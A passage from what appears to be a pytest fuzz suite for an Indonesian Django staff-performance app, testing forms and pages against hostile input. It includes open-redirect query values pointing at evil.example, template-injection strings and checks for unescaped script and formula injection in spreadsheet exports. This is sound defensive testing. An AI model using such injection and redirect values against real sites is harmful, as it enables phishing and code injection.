        lambda w: {"rencana_kinerja": "", "kpi": "", "judul": "Tersedianya data tim"},
    ),
    Aksi("kpi:kolom_hapus", "atasan_langsung", "pegawai"),
    Aksi(
        "kpi:sel_ubah",
        "atasan_langsung",
        "pegawai",
        post_only=False,
        data=lambda w: {
            "is_na": "",
            "ph-TOTAL_FORMS": "1",
            "ph-INITIAL_FORMS": "0",
            "ph-MIN_NUM_FORMS": "0",
            "ph-MAX_NUM_FORMS": "5",
            "ph-0-teks": "Tersusunnya laporan server",
            "ph-0-indikator": "Jumlah laporan",
            "ph-0-target": "12",
            "ph-0-satuan": "laporan",
        },
    ),
    Aksi(
        "kpi:terapkan",
        "atasan_langsung",
        "pegawai",
        lambda w: {"sidik": kpi_services.rencana_terapkan(w.matriks, oleh=w.atasan_langsung).sidik},
        post_only=False,
    ),
    Aksi(
        "kpi:tambah",
        "atasan_langsung",
        "pegawai",
        lambda w: {
            "unit": str(w.unit_a.pk),
            "pernyataan": "Layanan tersedia 99%",
            "target": "99,5",
            "satuan": "%",
        },
    ),
    Aksi(
        "kpi:ubah",
        "atasan_langsung",
        "pegawai",
        post_only=False,
        data=lambda w: {"pernyataan": "Semua server terbackup", "target": "7", "satuan": "kali"},
    ),
    Aksi("kpi:hapus", "atasan_langsung", "pegawai"),
    Aksi(
        "skp:perilaku_ubah",
        "atasan_langsung",
        "atasan_penilai",
        post_only=False,
        data=lambda w: {"perilaku-2-teks": "Hadir tepat waktu.", "perilaku-2-revisi": "0"},
    ),
    Aksi(
        "skp:preset_perilaku_tambah",
        "admin",
        "pegawai",
        lambda w: {"nilai": "loyal", "teks": "Menjaga rahasia jabatan."},
    ),
    Aksi(
        "skp:preset_perilaku_ubah",
        "admin",
        "pegawai",
        post_only=False,
        data=lambda w: {"nilai": "akuntabel", "teks": "Hadir tepat waktu dan tuntas."},
    ),
    Aksi("skp:preset_perilaku_hapus", "admin", "pegawai"),
    Aksi("skp:preset_perilaku_pindah", "admin", "pegawai", lambda w: {"arah": "turun"}),
    # Roster import (issue 3), fuzzed once that branch lands; skipped while its URLs are absent.
    Aksi(
        "kepegawaian:roster_impor",
        "admin",
        "pegawai",
        post_only=False,
        files=("berkas",),
        data=lambda w: {"periode": str(w.periode.pk)},
    ),
    Aksi("kepegawaian:roster_terapkan", "admin", "pegawai", baseline=404),
    Aksi("kepegawaian:roster_batal", "admin", "pegawai", baseline=404),
    Aksi("kepegawaian:roster_induk", "admin", "pegawai", baseline=404),
    Aksi(
        "kepegawaian:supervisi_ubah",
        "admin",
        "pegawai",
        post_only=False,
        data=lambda w: {
            "atasan_langsung": w.atasan_langsung.nip,
            "atasan_penilai": w.atasan_penilai.nip,
        },
    ),
    Aksi("kepegawaian:pegawai_ubah", "admin", "pegawai", post_only=False, data=_pegawai_ini),
    # People without a spreadsheet (issue 16.3): add one, a mutasi, a status.
    Aksi(
        "kepegawaian:pegawai_tambah",
        "admin",
        "pegawai",
        post_only=False,
        data=lambda w: {
            "nip": "197012312000121999",
            "jenis_asn": "PNS",
            "nama": "Pegawai Tambahan",
            "golongan": "III/a",
            "jabatan": "Pranata Komputer",
            "jenis_jabatan": "pelaksana",
            "unit_kerja": str(w.unit_a.pk),
            "atasan_langsung": w.atasan_langsung.nip,
        },
    ),
    Aksi(
        "kepegawaian:pegawai_mutasi",
        "admin",
        "pegawai",
        post_only=False,
        data=lambda w: {
            "tanggal_berlaku": f"{timezone.localdate():%Y-%m-%d}",
            "unit_kerja": str(w.unit_b.pk),
            "jabatan": "Analis Baru",
            "jenis_jabatan": "pelaksana",
            "atasan_langsung": w.atasan_lain.nip,
        },
    ),
    Aksi(
        "kepegawaian:pegawai_status",
        "admin",
        "pegawai",
        post_only=False,
        data=lambda w: {
            "status": "tugas_belajar",
            "tanggal_berlaku": f"{timezone.localdate():%Y-%m-%d}",
            "boleh_masuk": "on",
            "keterangan": "SK Rektor 12/UN48/KP/2026",
        },
    ),
    # Answers with the page that shows the temporary password once (no redirect: no copy of
    # it may sit in a session message).
    Aksi("kepegawaian:pegawai_kata_sandi", "admin", "pegawai", post_only=False),
    # Who is an admin kepegawaian: the superuser's only (issue 16 i).
    Aksi(
        "kepegawaian:hak_admin_ubah",
        "superuser",
        "admin",
        lambda w: {"pegawai": w.pegawai.nip, "aksi": "beri"},
    ),
    # Answers with the PDF of slips (the one place its passwords appear), not a redirect.
    Aksi(
        "kepegawaian:akun_massal_slip",
        "admin",
        "pegawai",
        lambda w: {"nip": w.pegawai.nip, "atur_ulang": "on", "kunci": "k" * 22},
        baseline=200,
        sukses=(200,),
    ),
    # The unit tree editor (issue 16).
    Aksi(
        "kepegawaian:unit_tambah",
        "admin",
        "pegawai",
        post_only=False,
        data=lambda w: {"nama": "Divisi Baru", "induk": str(w.unit_a.pk)},
    ),
    Aksi(
        "kepegawaian:unit_ubah",
        "admin",
        "pegawai",
        post_only=False,
        data=lambda w: {"nama": "Unit Beta", "induk": str(w.root.pk)},
    ),
    Aksi("kepegawaian:unit_hapus", "admin", "pegawai"),
    Aksi(
        "kepegawaian:unit_gabung",
        "admin",
        "pegawai",
        post_only=False,
        data=lambda w: {"ke": str(w.unit_a.pk)},
    ),
    Aksi(
        "kepegawaian:unit_pimpinan",
        "admin",
        "pegawai",
        post_only=False,
        data=lambda w: {
            "kepala": w.atasan_langsung.nip,
            "koordinator": w.pegawai.nip,
            "sub_koordinator": "",
            "kepala_sementara": "plt",
            "konfirmasi": "1",
            "versi": versi_pimpinan(UnitKerja.objects.get(pk=w.unit_a.pk)),
        },
    ),
]
AKSI += [
    # Penugasan (issue 18).
    Aksi(
        "penugasan:baru",
        "atasan_penilai",
        "pegawai",
        post_only=False,
        data=lambda w: {
            "judul": "Tim Akreditasi",
            "hasil": "Tersusunnya dokumen akreditasi",
            "iki_teks": "Jumlah dokumen",
            "target": "3",
            "satuan": "dokumen",
            "nomor_sk": "7/UN48/KP/2026",
            "tanggal_sk": f"{w.periode.tahun}-03-01",
            "mulai": f"{w.periode.tahun}-04-01",
            "selesai": f"{w.periode.tahun}-06-30",
            "anggota_1": w.pegawai.nip,
            "peran_1": "Ketua",
            "kunci_kirim": "",
        },
    ),
    Aksi(
        "penugasan:peluang_baru",
        "atasan_lain",
        "pegawai",
        post_only=False,
        data=lambda w: {
            "judul": "Tim Pameran",
            "hasil": "Terlaksananya pameran",
            "mulai": f"{w.periode.tahun}-04-01",
            "selesai": f"{w.periode.tahun}-06-30",
            "kuota": "2",
            "kunci_kirim": "",
        },
    ),
    Aksi(
        "penugasan:putuskan",
        "atasan_langsung",
        "pegawai_lain",
        lambda w: {
            f"a{w.baris_tugas.pk}-keputusan": "setuju",
            f"a{w.baris_tugas.pk}-jenis_rk": "tambahan",
            f"a{w.baris_tugas.pk}-alasan": "",
            f"a{w.baris_tugas.pk}-revisi": "0",
        },
    ),
    Aksi(
        "penugasan:konfirmasi",
        "atasan_lain",
        "pegawai_lain",
        lambda w: {f"a{w.relawan.pk}-keputusan": "terima", f"a{w.relawan.pk}-alasan": ""},
    ),
    Aksi(
        "penugasan:terima_skp",
        "atasan_lain",
        "pegawai",
        lambda w: {
            f"a{w.baris_skp.pk}-iki_teks": "Jumlah sesi",
            f"a{w.baris_skp.pk}-target": "6",
            f"a{w.baris_skp.pk}-satuan": "sesi",
        },
    ),
    Aksi("penugasan:ikut", "pegawai_lain", "anon", lambda w: {"alasan": "Pernah di helpdesk"}),
    Aksi("penugasan:tutup", "atasan_lain", "pegawai"),
    Aksi(
        "penugasan:tarik",
        "atasan_penilai",
        "atasan_langsung",
        lambda w: {"tarik-alasan_tarik": "Kegiatan dibatalkan."},
    ),
    Aksi(
        "penugasan:tarik_anggota",
        "atasan_penilai",
        "atasan_langsung",
        lambda w: {f"a{w.baris_tugas.pk}t-alasan_tarik": "Salah orang."},
    ),
    Aksi(
        "penugasan:komentar",
        "atasan_penilai",
        "pegawai",
        lambda w: {
            f"a{w.baris_rk.pk}k-teks": "Mohon laporan mingguan.",
            f"a{w.baris_rk.pk}k-kunci_kirim": "",
        },
    ),
    Aksi(
        "penugasan:komentar_balas",
        "atasan_penilai",
        "pegawai",
        lambda w: {"teks": "Terima kasih.", "kunci_kirim": ""},
    ),
]
AKSI_BY_NAME = {a.name: a for a in AKSI}


def _url_names() -> list[tuple[str, URLPattern]]:
    """Every named URL of the project outside Django's admin, as `namespace:name`."""
    found = []

    def walk(patterns, namespace):
        for p in patterns:
            if isinstance(p, URLResolver):
                if p.namespace == "admin":
                    continue
                inner = (
                    f"{namespace}:{p.namespace}"
                    if namespace and p.namespace
                    else (p.namespace or namespace)
                )
                walk(p.url_patterns, inner)
            elif p.name:
                found.append((f"{namespace}:{p.name}" if namespace else p.name, p))

    walk(get_resolver().url_patterns, "")
    return found


URL_NAMES = [name for name, _ in _url_names()]


AKSI_PARAMS = [
    pytest.param(
        aksi,
        id=aksi.name,
        marks=[]
        if aksi.name in URL_NAMES
        else [pytest.mark.skip(reason=f"{aksi.name} belum ada di cabang ini")],
    )
    for aksi in AKSI
]


# --- Helpers ------------------------------------------------------------------------------


def _tables() -> list[str]:
    names = set()
    for label in ("accounts", "skp", "kpi"):
        for model in apps.get_app_config(label).get_models(include_auto_created=True):
            names.add(model._meta.db_table)
    return sorted(names)


def snapshot() -> dict[str, str]:
    """A digest of every row of our apps' tables, in one query."""
    qn = connection.ops.quote_name
    sql = " UNION ALL ".join(
        f"SELECT '{t}', md5(coalesce(string_agg(r::text, '|' ORDER BY r::text), '')) FROM {qn(t)} r"
        for t in _tables()
    )
    with connection.cursor() as cursor:
        cursor.execute(sql)
        return dict(cursor.fetchall())


def client_for(w, role: str, **kwargs) -> Client:
    client = Client(**kwargs)
    client.raise_request_exception = False
    if role != "anon":
        client.force_login(getattr(w, role))
    return client


@dataclass
class Hasil:
    status: int
    changed: bool
    errors: list[str]
    page: bytes
    headers: dict
    exc: str

    def diterima(self, sukses=(301, 302)) -> bool:
        return self.status in sukses and not self.errors


def kirim(client: Client, url: str, data, *, tampilkan: bool = True, **extra) -> Hasil:
    """POST in a savepoint that is rolled back; report status, whether rows changed, the error
    messages this request queued, and the page shown (with `tampilkan`, the redirect target
    when something was saved, where stored text is rendered)."""
    with transaction.atomic():
        before = snapshot()
        response = client.post(url, data, **extra)
        exc = repr(response.exc_info[1]) if getattr(response, "exc_info", None) else ""
        changed, page, errors = False, b"", []
        if response.status_code < 500:
            changed = snapshot() != before
            storage = getattr(response.wsgi_request, "_messages", None)
            errors = [
                m.message
                for m in getattr(storage, "_queued_messages", [])
                if m.level == message_levels.ERROR
            ]
            page = response.content
            location = response.get("Location", "")
            if tampilkan and response.status_code == 302 and location.startswith("/") and changed:
                page = client.get(location).content
        transaction.set_rollback(True)
    return Hasil(response.status_code, changed, errors, page, dict(response.items()), exc)


def masalah_tampilan(hasil: Hasil) -> list[str]:
    """Signs that hostile text was rendered raw or evaluated, or reached a header raw (a WSGI
    server such as gunicorn refuses control characters in headers: a 500 in production)."""
    found = []
    if SCRIPT.encode() in hasil.page:
        found.append("<script> tidak di-escape")
    if b"zz49zz" in hasil.page:
        found.append("{{ 7*7 }} dievaluasi")
    if b"DEFAULT_MESSAGE_LEVELS" in hasil.page or b"sys.modules" in hasil.page:
        found.append("{% debug %} dievaluasi")
    if len(hasil.page) > 1_000_000:
        found.append(f"jawaban {len(hasil.page):,} bita: masukan kecil memperbesar pekerjaan")
    lokasi = urlsplit(hasil.headers.get("Location", ""))
    if lokasi.scheme or lokasi.netloc or lokasi.path.startswith("/\\"):
        found.append(f"redirect ke luar: {hasil.headers['Location']}")
    for name, value in hasil.headers.items():
        if re.search(r"[\x00-\x1f\x7f]", value):
            found.append(f"karakter kendali di header {name}")
    return found


def periksa(hasil: Hasil, label: str, *, boleh_mengubah: bool, sukses=(301, 302)) -> list[str]:
    """What is wrong with one answer (empty when it is fine)."""
    if hasil.status >= 500:
        return [f"{label}: {hasil.status} {hasil.exc}"]
    wrong = []
    if hasil.status not in (200, 302, 400, 403, 404, 405, 409, 413):
        wrong.append(f"{label}: status tak terduga {hasil.status}")
    if hasil.changed and not (boleh_mengubah and hasil.diterima(sukses)):
        wrong.append(f"{label}: ditolak ({hasil.status} {hasil.errors}) tetapi data berubah")
    return wrong + [f"{label}: {m}" for m in masalah_tampilan(hasil)]


# --- The fuzz -----------------------------------------------------------------------------


@pytest.mark.parametrize("aksi", AKSI_PARAMS)
def test_valid_submission_is_accepted_and_hostile_input_never_breaks_a_form(dunia, aksi):
    url = aksi.url(dunia)
    valid = aksi.data(dunia)
    client = client_for(dunia, aksi.allowed)

    def lengkap(**ganti):
        return {**valid, **{name: xlsx_kosong() for name in aksi.files}, **ganti}

    # The valid submission is accepted, so a hostile value in one field reaches the service.
    hasil = kirim(client, url, lengkap())
    assert (hasil.status, hasil.errors, hasil.exc) == (aksi.baseline, [], ""), hasil.page[:3000]

    failures = []
    # The allowed user: each field in turn, the others valid, plus a junk field.
    for name in [*valid, *aksi.files] or ["zz_tambahan"]:
        for payload, value in hostile_for(valid.get(name, "")).items():
            hasil = kirim(
                client,
                url,
                lengkap(**{name: value, "zz_sampah": value}),
                tampilkan=payload in DISPLAY,
            )
            failures += periksa(
                hasil, f"POST {url} {name}={payload}", boleh_mengubah=True, sukses=aksi.sukses
            )
    # A user who may not: every field hostile at once; refused, nothing written.
    other = client_for(dunia, aksi.other)
    for payload in ("nul", "html", "100k", "20 digit", "30 Feb"):
        value = HOSTILE[payload]
        hasil = kirim(other, url, dict.fromkeys([*valid, "zz_sampah"], value))
        failures += periksa(
            hasil, f"POST {url} semua={payload} ({aksi.other})", boleh_mengubah=False
        )
        if hasil.status not in (302, 403, 404):
            failures.append(f"POST {url} semua={payload}: {aksi.other} mendapat {hasil.status}")
    assert not failures, "\n".join(failures[:40])


# --- Whole-request attacks, CSRF and methods ------------------------------------------------

CSRF_SECRET = "a" * 32


@pytest.mark.parametrize("aksi", AKSI_PARAMS)
def test_no_csrf_token_oversized_bodies_and_field_floods_are_refused(dunia, aksi):
    url = aksi.url(dunia)
    valid = aksi.data(dunia)
    failures = []

    # Like a browser: the middleware parses the body for the CSRF token before the view.
    client = client_for(dunia, aksi.allowed, enforce_csrf_checks=True)
    hasil = kirim(client, url, valid)
    if hasil.status != 403 or hasil.changed:
        failures.append(f"POST {url} tanpa token CSRF: {hasil.status}, berubah={hasil.changed}")
    client.cookies["csrftoken"] = CSRF_SECRET
    valid = {**valid, "csrfmiddlewaretoken": CSRF_SECRET}
    attacks = {
        "3 MB (multipart)": ({**valid, "zz": "x" * 3_000_000}, {}),
        "3 MB (urlencoded)": (
            urlencode({**valid, "zz": "x" * 3_000_000}),
            {"content_type": "application/x-www-form-urlencoded"},
        ),
        "1.001 isian": ({**valid, **{f"f{i}": "1" for i in range(1001)}}, {}),
    }
    for label, (data, extra) in attacks.items():
        hasil = kirim(client, url, data, **extra)
        failures += periksa(hasil, f"POST {url} {label}", boleh_mengubah=False)
        if hasil.status != 400:
            failures.append(f"POST {url} {label}: {hasil.status}, seharusnya 400")

    # A stray non-xlsx file: ignored by forms without an upload, refused by one with.
    berkas = {
        name: SimpleUploadedFile("daftar.xlsx", b"MZ\x90\x00 bukan spreadsheet" * 100)
        for name in (*aksi.files, "zz_berkas")
    }
    hasil = kirim(client, url, {**valid, **berkas})
    failures += periksa(
        hasil, f"POST {url} berkas", boleh_mengubah=not aksi.files, sukses=aksi.sukses
    )

    if aksi.post_only:
        status = client.get(url).status_code
        if status != 405:
            failures.append(f"GET {url}: {status}, seharusnya 405")
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize("role", ["anon", "admin"])
def test_a_body_over_the_cap_is_refused_with_413_before_it_is_read(dunia, settings, role):
    """Fuzz finding: any POST, even anonymous, streamed a file of any size to disk."""
    settings.MAX_REQUEST_BYTES = 1024 * 1024
    client = client_for(dunia, role)
    berkas = SimpleUploadedFile("besar.xlsx", b"\0" * (1024 * 1024 + 1))
    for url in (reverse("login"), reverse("skp:batch_minta")):
        hasil = kirim(client, url, {"periode": str(dunia.periode.pk), "berkas": berkas})
        berkas.seek(0)
        assert hasil.status == 413 and "maksimal 1 MB" in hasil.page.decode()
        assert not hasil.changed
    kecil = {"berkas": SimpleUploadedFile("kecil.xlsx", b"x")}
    assert client.post(reverse("login"), kecil).status_code in (200, 302)


def test_nul_bytes_are_refused_with_an_indonesian_message_and_nothing_is_written(dunia):
    aksi = AKSI_BY_NAME["skp:rk_tambah"]
    data = {**aksi.data(dunia), "rk-utama-teks": "Tersusunnya\x00laporan"}
    hasil = kirim(client_for(dunia, "pegawai"), aksi.url(dunia), data)
    assert hasil.status == 200 and not hasil.changed
    assert "Karakter null tidak diizinkan." in hasil.page.decode()


def _sel_xlsx(isi: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(isi))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def test_formula_strings_typed_by_users_come_out_of_every_export_as_text(dunia):
    """RK, IKI, peran hasil, KPI and roster text starting with = + - @ stays text in the
    SKP, matriks and rekap spreadsheets: opening one never runs a formula."""
    w = dunia
    for teks in FORMULAS:
        tambah_rk(w.skp, teks=teks, intervensi_id=w.rk_ketua.pk, indikator=kuantitas(teks=teks))
    kpi_services.simpan_sel(
        w.matriks,
        w.anggota,
        w.kolom,
        is_na=False,
        oleh=w.atasan_langsung,
        peran_hasil=[kpi_services.DataPeranHasil(t, indikator=t) for t in FORMULAS],
    )
    type(w.pegawai).objects.filter(pk=w.pegawai.pk).update(nama=FORMULAS[2], jabatan=FORMULAS[1])
    exports = [
        ("pegawai", reverse("skp:xlsx", args=[w.skp.pk])),
        ("atasan_langsung", reverse("kpi:matriks_xlsx", args=[w.matriks.pk])),
        ("admin", reverse("skp:rekap_unduh", args=[w.periode.tahun])),
    ]
    for role, url in exports:
        cells = _sel_xlsx(client_for(w, role).get(url).content)
        teks = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+@"]
        assert teks and all(c.data_type == "s" for c in teks), url
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        assert not formulas, f"{url}: formula aktif di {formulas}"


GET_ROLE = {
    "kepegawaian:hak_admin": "superuser",
    # The public page that checks a printed SKP: for whoever holds the paper.
    "skp:verifikasi": "anon",
    "skp:verifikasi_kode": "anon",
    "skp:detail": "pegawai",
    "skp:lampiran_daftar": "pegawai",
    "kpi:matriks": "atasan_langsung",
    "kpi:sel": "atasan_langsung",
}
QUERY = [
    dict.fromkeys(
        ["tahun", "periode", "ubah_rk", "ubah_iki", "unit", "page", "kembali", "ubah", "preset"],
        "²",
    ),
    {
        "tahun": "\x00",
        "periode": "99999999999999999999",
        "ubah_rk": "99999999999999999999",
        "ubah_iki": "-1",
        "kembali": "//evil.example/",
        "next": "https://evil.example/",
        "q": f"{SCRIPT} zz{{{{ 7*7 }}}}zz",
        "unit": "\x00",
        "status": SCRIPT,
        "page": "1e309",
        "ubah": "99999999999999999999",
        "tambah": SCRIPT,
        "preset": "\x00",
    },
]


def test_hostile_query_parameters_never_break_a_page(dunia):
    """The query parameters pages read (tahun, periode, ubah_rk, kembali…) and junk ones."""
    failures = []
    clients = {}
    for name, _ in _url_names():
        if name in ("logout", "skp:pdf", "skp:versi_pdf", "kpi:matriks_pdf"):
            continue  # POST-only; PDFs read no query
        role = AKSI_BY_NAME[name].allowed if name in AKSI_BY_NAME else GET_ROLE.get(name, "admin")
        client = clients.setdefault(role, client_for(dunia, role))
        url = reverse(name, kwargs=KWARGS.get(name, TANPA_ARGUMEN)(dunia))
        for query in QUERY:
            response = client.get(url, query)
            exc = getattr(response, "exc_info", None)
            hasil = Hasil(
                response.status_code,
                False,
                [],
                response.content,
                dict(response.items()),
                repr(exc[1]) if exc else "",
            )
            failures += periksa(hasil, f"GET {url}?{urlencode(query)[:60]}", boleh_mengubah=False)
    assert not failures, "\n".join(failures)


def test_every_url_is_known_and_read_only_urls_refuse_post(dunia):
    """A new URL must be added to KWARGS (and to AKSI if it takes POST) to be fuzzed."""
    client = client_for(dunia, "admin")
    unknown, accepts_post = [], []
    for name, pattern in _url_names():
        converters = pattern.pattern.converters
        if converters and name not in KWARGS:
            unknown.append(name)
            continue
        if name in AKSI_BY_NAME:
            continue
        url = reverse(name, kwargs=KWARGS.get(name, TANPA_ARGUMEN)(dunia))
        status = kirim(client, url, {"x": "1"}).status
        if status != 405:
            accepts_post.append(f"{name} ({url}): {status}")
    assert not unknown, f"URL tanpa argumen uji di KWARGS: {unknown}"
    assert not accepts_post, f"URL menerima POST tetapi tidak ada di AKSI: {accepts_post}"
